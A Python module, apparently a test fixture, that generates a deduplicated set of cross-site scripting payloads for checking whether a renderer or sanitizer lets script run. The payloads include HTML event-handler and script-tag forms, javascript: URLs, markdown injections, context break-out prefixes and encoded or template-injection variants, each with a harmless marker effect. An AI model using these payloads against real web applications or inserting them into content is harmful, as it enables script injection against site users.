"""Texts that try to become part of a page: scripts, handlers, links and styles, built from parts; the same every time.

The kinds are those of two public lists: the OWASP Cross Site Scripting Filter Evasion cheat sheet (breaking out, odd tags,
case, spaces and encodings) and the PortSwigger cross-site scripting cheat sheet (handlers that need no click). The words are
put together here. Whatever runs sets `window.geraakt` or opens a dialog, so that a browser can tell.
"""

from __future__ import annotations

from functools import cache

RUNS = ("alert(1)", "window.geraakt=1", "window['ger'+'aakt']=document.domain")
ELEMENTS = (
    "<script>{0}</script>",
    "<ScRiPt >{0}</ScRiPt\t>",
    "<script/src=data:text/javascript,{0}></script>",
    "<img src=x onerror={0}>",
    "<img/src='x'/onerror='{0}'>",
    "<IMG SRC=`x` OnErRoR={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s></svg>",
    "<math><mtext><script>{0}</script></mtext></math>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    '<iframe src="javascript:{0}"></iframe>',
    '<object data="javascript:{0}"></object>',
    '<embed src="javascript:{0}">',
    "<body onload={0}>",
    "<details open ontoggle={0}>x</details>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}></select>",
    "<textarea autofocus onfocus={0}></textarea>",
    "<video src=x onerror={0}></video>",
    "<audio src=x onerror={0}></audio>",
    "<video><source onerror={0}></video>",
    "<marquee onstart={0}>x</marquee>",
    '<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart="{0}">x</b>',
    "<style>*{{background:url('javascript:{0}')}}</style>",
    '<link rel=stylesheet href="data:text/css,*{{x:expression({0})}}">',
    '<base href="javascript:{0}//">',
    '<meta http-equiv=refresh content="0;url=javascript:{0}">',
    '<form action="javascript:{0}"><button autofocus onfocus={0}>x</button></form>',
    '<a href="javascript:{0}">klik</a>',
    '<a href="&#106;avascript:{0}">klik</a>',
    '<a href="java&#10;script:{0}">klik</a>',
    '<p style="x:expression({0})" onmouseover={0}>x</p>',
    '<noscript><p title="</noscript><img src=x onerror={0}>">',
    "<template><img src=x onerror={0}></template>",
    "<custom-tag onfocus={0} autofocus tabindex=1>x</custom-tag>",
)
MARKDOWN = (
    "[klik](javascript:{0})",
    "[klik]( data:text/html,<script>{0}</script> )",
    '![x](x"onerror="{0})',
    "![x](javascript:{0})",
    "<javascript:{0}>",
    '[x]: javascript:{0} "x"',
    "`</code><script>{0}</script>`",
    "$\\href{{javascript:{0}}}{{klik}}$",
    ":red[<img src=x onerror={0}>]",
    "| a |\n|---|\n| <img src=x onerror={0}> |",
)
OUT = ('">', "'>", "-->", "]]>", "</title>", "</style></script>", "</textarea>", "*/</style>", '" autofocus onfocus="', "%22%3E")
ENCODED = (
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;img src=x onerror={0}&#62;",
    "%3Cscript%3E{0}%3C/script%3E",
    "\\u003cimg src=x onerror={0}\\u003e",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "<\u200bscript>{0}</script>",
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "#{{{0}}}",
    "javascript:{0}",
)


@cache
def make_scripts() -> tuple[str, ...]:
    """Return every text; no two are the same."""
    found = [form.format(run) for form in (*ELEMENTS, *MARKDOWN, *ENCODED) for run in RUNS]
    found += [out + ELEMENTS[place % len(ELEMENTS)].format(RUNS[place % len(RUNS)]) for place, out in enumerate(OUT * 5)]
    return tuple(dict.fromkeys(found))
